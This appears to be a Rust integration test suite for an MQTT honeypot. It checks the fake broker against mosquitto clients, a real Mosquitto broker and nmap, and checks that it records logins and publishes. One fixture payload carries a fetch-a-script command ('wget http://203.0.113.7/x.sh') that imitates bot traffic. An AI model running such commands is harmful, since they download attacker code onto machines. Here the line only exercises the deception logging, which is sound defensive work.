//! The MQTT broker against mosquitto_pub and mosquitto_sub, side by side with
//! the real Mosquitto broker, and under nmap.

use std::path::Path;
use std::time::Duration;

use decnet_core::{EventType, SecretKind};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::process::Command;

use crate::harness::{
    decky, decky_in_world, have, login_of, output, person, serve, svc, unique_ip, Served,
};

async fn start(dir: &Path, name: &str, persona: &[(&str, &str)]) -> Served {
    let d = decky(name, &unique_ip(), dir, vec![svc("mqtt", persona)]);
    serve(d, "mqtt").await
}

fn client(tool: &str, s: &Served) -> Command {
    let mut c = Command::new(tool);
    c.args([
        "-h",
        &s.addr.ip().to_string(),
        "-p",
        &s.addr.port().to_string(),
    ]);
    c
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[tokio::test]
async fn mosquitto_pub_with_a_password_is_captured_as_sent() {
    if !have("mosquitto_pub") {
        eprintln!("skipped: mosquitto_pub (mosquitto-clients) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "mqtt-pub", &[]).await;
    for (version, level) in [("mqttv311", "3.1.1"), ("mqttv5", "5.0"), ("mqttv31", "3.1")] {
        let password = format!("Pa:ss {level}!");
        let payload = format!("{{\"cmd\":\"wget http://203.0.113.7/x.sh\",\"v\":\"{level}\"}}");
        let mut c = client("mosquitto_pub", &s);
        c.args(["-V", version, "-i", "bot-7", "-u", "admin", "-P", &password]);
        c.args(["-q", "1", "-r", "-t", "cmd/device/42", "-m", &payload]);
        c.args(["--will-topic", "lwt/bot-7", "--will-payload", "gone"]);
        let out = output(c).await;
        assert!(out.status.success(), "{version}: {}", stderr(&out));

        let e = s.wait_type(EventType::LoginSuccess).await.expect("login");
        assert_eq!(
            login_of(&e),
            (
                "admin".to_owned(),
                password.into_bytes(),
                SecretKind::Password
            )
        );
        assert_eq!(e.fields["mqtt_version"], level);
        assert_eq!(e.fields["client_id"], "bot-7");
        assert_eq!(e.fields["accepted_by"], "accept_all");
        assert_eq!(e.fields["will"]["topic"], "lwt/bot-7");
        assert_eq!(e.fields["will"]["payload"], "gone");
        assert_eq!(e.fields["method"], "password");

        let p = s.wait_type(EventType::Command).await.expect("publish");
        assert_eq!(p.fields["command"], "PUBLISH cmd/device/42");
        assert_eq!(p.fields["topic"], "cmd/device/42");
        assert_eq!(p.fields["payload"], payload.as_str());
        assert_eq!(p.fields["payload_size"], payload.len());
        assert_eq!(
            (p.fields["qos"].as_u64(), p.fields["retain"].as_bool()),
            (Some(1), Some(true))
        );
        assert_eq!(p.fields["user"], "admin");
    }
}

#[tokio::test]
async fn subscribers_get_the_version_and_the_retained_readings() {
    if !have("mosquitto_sub") {
        eprintln!("skipped: mosquitto_sub (mosquitto-clients) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "mqtt-sub", &[]).await;
    let mut c = client("mosquitto_sub", &s);
    c.args(["-t", "$SYS/broker/version", "-C", "1", "-W", "10"]);
    let out = output(c).await;
    assert!(out.status.success(), "{}", stderr(&out));
    // The test decky is Ubuntu 22.04, whose mosquitto is 2.0.11.
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "mosquitto version 2.0.11\n"
    );
    let anon = s.wait_type(EventType::LoginSuccess).await.expect("login");
    assert_eq!(
        login_of(&anon),
        (String::new(), Vec::new(), SecretKind::Password)
    );
    assert_eq!(anon.fields["anonymous"], true);
    assert_eq!(anon.fields["method"], "none");
    let sub = s.wait_type(EventType::Command).await.expect("subscribe");
    assert_eq!(sub.fields["command"], "SUBSCRIBE $SYS/broker/version");

    // `#` gets the bait readings (retained, so at once) and no $SYS.
    let plant = s.decky.config.name.clone();
    let mut c = client("mosquitto_sub", &s);
    c.args(["-V", "mqttv5", "-t", "#", "-v", "-W", "3", "-F", "%r %t %p"]);
    let out = output(c).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() >= 4, "{plant}: {text}");
    for l in &lines {
        let mut it = l.splitn(3, ' ');
        let (retained, topic, payload) = (
            it.next().unwrap(),
            it.next().unwrap(),
            it.next().unwrap_or(""),
        );
        assert_eq!(retained, "1", "{l}");
        assert!(!topic.starts_with('$'), "{l}");
        assert!(!payload.is_empty(), "{l}");
    }

    // `$SYS/#` gets the whole tree, version first, as Mosquitto sends it.
    let mut c = client("mosquitto_sub", &s);
    c.args(["-t", "$SYS/#", "-v", "-W", "2"]);
    let out = output(c).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let first = text.lines().next().unwrap_or_default();
    assert_eq!(first, "$SYS/broker/version mosquitto version 2.0.11");
    for topic in [
        "$SYS/broker/uptime",
        "$SYS/broker/clients/connected",
        "$SYS/broker/load/messages/received/1min",
        "$SYS/broker/bytes/sent",
    ] {
        assert!(
            text.lines().any(|l| l.starts_with(&format!("{topic} "))),
            "{topic}:\n{text}"
        );
    }
}

#[tokio::test]
async fn refusals_are_mosquitto_2s_and_the_bait_world_is_let_in() {
    if !have("mosquitto_pub") {
        eprintln!("skipped: mosquitto_pub (mosquitto-clients) is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let ip = unique_ip();
    let persona = [("accept_all", "false"), ("users", "sensor:Temp2024")];
    let d = decky_in_world(
        "mqtt-auth",
        &ip,
        tmp.path(),
        vec![svc("mqtt", &persona), svc("ssh", &[])],
    );
    let mut s = serve(d, "mqtt").await;
    for (version, said) in [
        (
            "mqttv311",
            "Connection error: Connection Refused: not authorised.",
        ),
        ("mqttv5", "Connection error: Not authorized"),
    ] {
        let mut c = client("mosquitto_pub", &s);
        c.args([
            "-V", version, "-u", "sensor", "-P", "wrong", "-t", "a", "-m", "x",
        ]);
        let out = output(c).await;
        assert!(!out.status.success());
        assert!(stderr(&out).contains(said), "{version}: {}", stderr(&out));
        let e = s.wait_type(EventType::LoginAttempt).await.expect("attempt");
        assert_eq!(
            login_of(&e),
            ("sensor".into(), b"wrong".to_vec(), SecretKind::Password)
        );
        assert_eq!(e.fields["refused"], "not_authorized");
        assert_eq!(
            e.fields["connack"],
            if version == "mqttv5" { 0x87 } else { 5 }
        );
    }
    // Anonymous is refused too.
    let mut c = client("mosquitto_pub", &s);
    c.args(["-t", "a", "-m", "x"]);
    let out = output(c).await;
    assert!(stderr(&out).contains("not authorised"), "{}", stderr(&out));
    let e = s
        .wait_type(EventType::LoginAttempt)
        .await
        .expect("anonymous");
    assert_eq!(e.fields["anonymous"], true);

    // The configured account, and a person of the bait world with an account here.
    let (user, pass) = person(&s);
    for (u, p, by) in [
        ("sensor", "Temp2024", "users"),
        (user.as_str(), pass.as_str(), "bait_world"),
    ] {
        let mut c = client("mosquitto_pub", &s);
        c.args(["-u", u, "-P", p, "-t", "a", "-m", "x"]);
        let out = output(c).await;
        assert!(out.status.success(), "{u}: {}", stderr(&out));
        let e = s.wait_type(EventType::LoginSuccess).await.expect("success");
        assert_eq!(
            login_of(&e),
            (u.to_owned(), p.as_bytes().to_vec(), SecretKind::Password)
        );
        assert_eq!(e.fields["accepted_by"], by);
    }
}

/// The real Mosquitto on a loopback port of its own, killed on drop.
struct RealBroker {
    child: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Drop for RealBroker {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn real_broker(user: &str, password: &str) -> RealBroker {
    let dir = tempfile::tempdir().unwrap();
    let pw = dir.path().join("passwd");
    let st = std::process::Command::new("mosquitto_passwd")
        .args(["-c", "-b"])
        .arg(&pw)
        .args([user, password])
        .output()
        .unwrap();
    assert!(
        st.status.success(),
        "{}",
        String::from_utf8_lossy(&st.stderr)
    );
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let conf = dir.path().join("mosquitto.conf");
    // `user root` keeps a broker started as root from dropping to `mosquitto`,
    // who cannot read the temp dir; it changes nothing for anyone else.
    std::fs::write(
        &conf,
        format!(
            "listener {port} 127.0.0.1\nallow_anonymous false\npassword_file {}\npersistence false\nuser root\nlog_dest none\n",
            pw.display()
        ),
    )
    .unwrap();
    let child = std::process::Command::new("mosquitto")
        .arg("-c")
        .arg(&conf)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let b = RealBroker {
        child,
        port,
        _dir: dir,
    };
    // Ready once it accepts connections.
    for _ in 0..100 {
        if TcpStream::connect(("127.0.0.1", port)).await.is_ok() {
            return b;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("mosquitto did not start on port {port}");
}

fn s(b: &[u8]) -> Vec<u8> {
    let mut v = (b.len() as u16).to_be_bytes().to_vec();
    v.extend_from_slice(b);
    v
}

fn pkt(first: u8, body: &[u8]) -> Vec<u8> {
    let mut v = vec![first];
    let mut n = body.len();
    loop {
        let mut b = (n % 128) as u8;
        n /= 128;
        if n > 0 {
            b |= 0x80;
        }
        v.push(b);
        if n == 0 {
            break;
        }
    }
    v.extend_from_slice(body);
    v
}

fn connect(level: u8, user: &[u8], password: &[u8]) -> Vec<u8> {
    let name: &[u8] = if level == 3 { b"MQIsdp" } else { b"MQTT" };
    let mut body = s(name);
    body.extend_from_slice(&[level, 0xC2, 0, 60]);
    if level == 5 {
        body.push(0);
    }
    body.extend(s(b"side-by-side"));
    body.extend(s(user));
    body.extend(s(password));
    pkt(0x10, &body)
}

/// What a server says to `data` until it closes or is quiet for a moment.
async fn exchange(addr: (std::net::IpAddr, u16), data: &[u8]) -> Vec<u8> {
    let mut c = TcpStream::connect(addr).await.unwrap();
    c.write_all(data).await.unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout(Duration::from_millis(400), c.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => got.extend_from_slice(&buf[..n]),
            _ => break,
        }
        if got.len() > 64 * 1024 {
            break;
        }
    }
    got
}

#[tokio::test]
async fn connack_suback_and_acks_are_byte_for_byte_the_real_mosquittos() {
    if !have("mosquitto") || !have("mosquitto_passwd") {
        eprintln!("skipped: mosquitto (the broker) is not installed");
        return;
    }
    let real = real_broker("alice", "s3cret").await;
    let tmp = tempfile::tempdir().unwrap();
    let ours = start(
        tmp.path(),
        "mqtt-side",
        &[("accept_all", "false"), ("users", "alice:s3cret")],
    )
    .await;
    let ok4 = connect(4, b"alice", b"s3cret");
    let ok5 = connect(5, b"alice", b"s3cret");
    let sub = |v5: bool, filter: &[u8], opts: u8| {
        let mut b = vec![0, 7];
        if v5 {
            b.push(0);
        }
        b.extend(s(filter));
        b.push(opts);
        pkt(0x82, &b)
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("3.1.1 accepted", ok4.clone()),
        ("3.1.1 wrong password", connect(4, b"alice", b"wrong")),
        ("3.1 accepted", connect(3, b"alice", b"s3cret")),
        ("3.1 wrong password", connect(3, b"alice", b"nope")),
        ("5.0 accepted", ok5.clone()),
        ("5.0 wrong password", connect(5, b"alice", b"wrong")),
        ("5.0 unknown user", connect(5, b"mallory", b"x")),
        (
            "3.1.1 plain subscription",
            [ok4.clone(), sub(false, b"plant/+/temp", 1)].concat(),
        ),
        (
            "5.0 plain subscription",
            [ok5.clone(), sub(true, b"plant/#", 2)].concat(),
        ),
        (
            "3.1.1 unsubscribe",
            [
                ok4.clone(),
                pkt(0xA2, &[&[0u8, 3][..], &s(b"a/b")].concat()),
            ]
            .concat(),
        ),
        (
            "5.0 unsubscribe",
            [
                ok5.clone(),
                pkt(0xA2, &[&[0u8, 3, 0][..], &s(b"a/b")].concat()),
            ]
            .concat(),
        ),
        (
            "5.0 QoS 1 publish",
            [
                ok5.clone(),
                pkt(0x32, &[&s(b"a/b")[..], &[0, 9, 0], b"hi"].concat()),
            ]
            .concat(),
        ),
        (
            "3.1.1 QoS 2 publish",
            [
                ok4.clone(),
                pkt(0x34, &[&s(b"a/b")[..], &[0, 9], b"hi"].concat()),
                vec![0x62, 2, 0, 9],
            ]
            .concat(),
        ),
        ("3.1.1 ping", [ok4.clone(), vec![0xC0, 0]].concat()),
        (
            "unknown level",
            pkt(0x10, &[&s(b"MQTT")[..], &[9, 2, 0, 60], &s(b"x")].concat()),
        ),
        (
            "5.0 bad filter",
            [ok5.clone(), sub(true, b"a/#/b", 0)].concat(),
        ),
        (
            "5.0 wildcard publish",
            [
                ok5.clone(),
                pkt(0x30, &[&s(b"a/#")[..], &[0], b"x"].concat()),
            ]
            .concat(),
        ),
        (
            "3.1.1 QoS 3 subscribe",
            [ok4.clone(), sub(false, b"a", 3)].concat(),
        ),
        ("http", b"GET / HTTP/1.0\r\n\r\n".to_vec()),
    ];
    let real_addr = ("127.0.0.1".parse().unwrap(), real.port);
    assert_eq!(exchange(real_addr, &ok4).await, b"\x20\x02\x00\x00");
    let our_addr = (ours.addr.ip(), ours.addr.port());
    for (name, data) in cases {
        let (want, got) = tokio::join!(exchange(real_addr, &data), exchange(our_addr, &data));
        // The real broker answered (an empty answer would compare equal to anything silent).
        assert_eq!(
            want.is_empty(),
            name == "http",
            "{name}: mosquitto said {want:02x?}"
        );
        assert_eq!(got, want, "{name}: ours {got:02x?}, mosquitto {want:02x?}");
    }
}

#[tokio::test]
async fn nmap_names_the_mqtt_broker_and_its_version() {
    if !have("nmap") {
        eprintln!("skipped: nmap is not installed");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "mqtt-nmap", &[]).await;
    // The MQTT probe is rare (nmap sends it unasked only to 1883): --version-all.
    let mut c = Command::new("nmap");
    c.args(["-sV", "--version-all", "-Pn", "-n", "-p"])
        .arg(s.addr.port().to_string())
        .arg(s.addr.ip().to_string());
    let out = output(c).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let line = text
        .lines()
        .find(|l| l.starts_with(&format!("{}/tcp", s.addr.port())))
        .unwrap_or_else(|| panic!("no port line:\n{text}"));
    // nmap's MQTT probe says `mqtt`; its mqtt-subscribe script (a version
    // script) then reads $SYS/broker/version and names the service after it,
    // as it does for an open Mosquitto.
    assert!(line.contains("open"), "{text}");
    assert!(line.contains("mosquitto version 2.0.11"), "{text}");
    let probe = s
        .wait_for(Duration::from_secs(5), |e| {
            e.event_type == EventType::LoginSuccess && e.fields["client_id"] == "nmap"
        })
        .await;
    assert!(probe.is_some(), "nmap's CONNECT is captured");
}

#[tokio::test]
async fn garbage_before_connect_is_a_protocol_error_and_silence_a_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "mqtt-junk", &[]).await;
    let got = exchange((s.addr.ip(), s.addr.port()), b"GET / HTTP/1.0\r\n\r\n").await;
    assert!(got.is_empty());
    let e = s
        .wait_type(EventType::ProtocolError)
        .await
        .expect("protocol_error");
    assert_eq!(e.fields["reason"], "first_packet_not_connect");
    drop(TcpStream::connect(s.addr).await.unwrap());
    let e = s.wait_type(EventType::Scan).await.expect("scan");
    assert_eq!(e.fields["bytes"], 0);
    // A remaining length of five bytes.
    let got = exchange((s.addr.ip(), s.addr.port()), b"\x10\xff\xff\xff\xff\x01").await;
    assert!(got.is_empty());
    let e = s
        .wait_type(EventType::ProtocolError)
        .await
        .expect("protocol_error");
    assert_eq!(e.fields["reason"], "remaining_length_too_long");
}
